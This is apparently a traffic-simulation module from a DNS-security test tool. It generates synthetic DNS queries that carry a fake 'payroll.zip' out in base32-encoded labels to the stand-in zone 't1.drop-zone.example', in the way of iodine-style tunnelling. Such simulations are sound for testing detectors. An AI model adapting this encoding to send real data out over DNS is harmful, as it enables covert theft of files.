"""A file leaves in names, in base32 as iodine and its kin write it; what is answered says no more than "taken"."""

import base64
from collections.abc import Iterator
from typing import Final

from dnsguard.behaviours.behaviour import Behaviour, below, noise, null, queries

ZONE: Final = "t1.drop-zone.example"
FILE: Final = 8192
"""[bytes]"""
PIECE: Final = 100
"""In each name: 160 characters of base32. [bytes]"""
LABEL: Final = 57
"""Characters to a label, as iodine's client/encoding.c has it."""


def _names() -> Iterator[str]:
    file = noise("payroll.zip", FILE)
    for number, start in enumerate(range(0, FILE, PIECE)):
        piece = number.to_bytes(2, "big") + file[start : start + PIECE]
        coded = base64.b32encode(piece).decode().rstrip("=").lower()
        labels = [coded[at : at + LABEL] for at in range(0, len(coded), LABEL)]
        yield ".".join([*labels, ZONE])


BEHAVIOUR: Final = Behaviour(
    slug="data_exfiltration",
    story="sends a file out in the names it asks for",
    packets=lambda: queries(_names(), "NULL"),
    reply=lambda name, _qtype: null(b"\0\0") if below(name, ZONE) else None,
)
